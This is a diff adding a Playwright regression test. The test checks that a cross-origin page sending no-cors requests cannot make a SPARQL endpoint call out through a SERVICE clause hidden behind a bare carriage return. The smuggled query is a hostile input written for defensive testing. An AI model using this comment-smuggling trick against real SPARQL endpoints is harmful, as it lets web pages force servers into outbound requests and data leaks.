@@ -126,3 +126,34 @@ def test_resource_page_shows_hostile_labels_as_text(browser) -> None:
         finally:
             context.close()
     assert watch.dialogs == [] and watch.off_server == []
+
+
+def test_cross_origin_page_cannot_make_the_endpoint_call_out(browser, server, listener) -> None:
+    """Issue 11, point 1: any web page the user opens can send `fetch(…, {mode: "no-cors"})` to
+    the endpoint; the SERVICE hidden behind a bare carriage return must reach nothing."""
+    from urllib.parse import urlencode
+
+    query = f"SELECT * WHERE {{ ?s ?p ?o . #\r SERVICE <{listener.url}> {{ ?a ?b ?c }}\n}}"
+    asked = server.queries_asked
+    context = browser.new_context()
+    page = context.new_page()
+    try:
+        page.set_content("<!DOCTYPE html><title>elsewhere</title><p>an unrelated page</p>")
+        page.evaluate(
+            """async ([getUrl, postUrl, form]) => {
+                await fetch(getUrl, {mode: "no-cors"}).catch(() => null);
+                await fetch(postUrl, {mode: "no-cors", method: "POST", body: form,
+                    headers: {"Content-Type": "application/x-www-form-urlencoded"}})
+                    .catch(() => null);
+            }""",
+            [
+                server.endpoint_url + "?" + urlencode({"query": query}),
+                server.endpoint_url,
+                urlencode({"query": query}),
+            ],
+        )
+        page.wait_for_timeout(500)
+    finally:
+        context.close()
+    assert server.queries_asked == asked + 2  # both requests arrived and were checked
+    assert listener.received == []
